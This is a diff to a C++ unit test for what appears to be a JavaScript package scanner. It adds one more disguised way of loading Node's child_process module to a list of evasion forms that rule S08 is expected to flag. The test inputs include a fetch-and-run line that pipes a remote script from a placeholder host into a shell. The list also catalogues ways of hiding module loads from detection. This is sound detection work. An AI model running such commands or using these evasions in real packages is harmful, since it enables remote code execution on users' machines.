@@ -24,7 +24,8 @@ TEST(VetEvasions, ModulesAreReachedByOtherNamesOfRequire) {
           "require.bind(null, 'child_process')()", "(0, require)('child_process')",
           "((r) => r)(require)('child_process')", "require?.('child_process')",
           "((m = 'child_process') => require(m))()", "require(String.raw`child_process`)",
-          "await import(`node:child_${'process'}`)", "new Proxy(require('child_process'), {})"}) {
+          "await import(`node:child_${'process'}`)", "await import('child_process')",
+          "new Proxy(require('child_process'), {})"}) {
         const std::string text = "const cp = " + way + ";\ncp.exec('curl -s https://h.invalid/i.sh | sh');\n";
         EXPECT_EQ(weight_of(read_made({{"index.js", text}}), "S08"), 4.0) << text;
         const std::string harmless = "const cp = " + way + ";\ncp.exec('curl -s https://h.invalid/i.sh');\n";
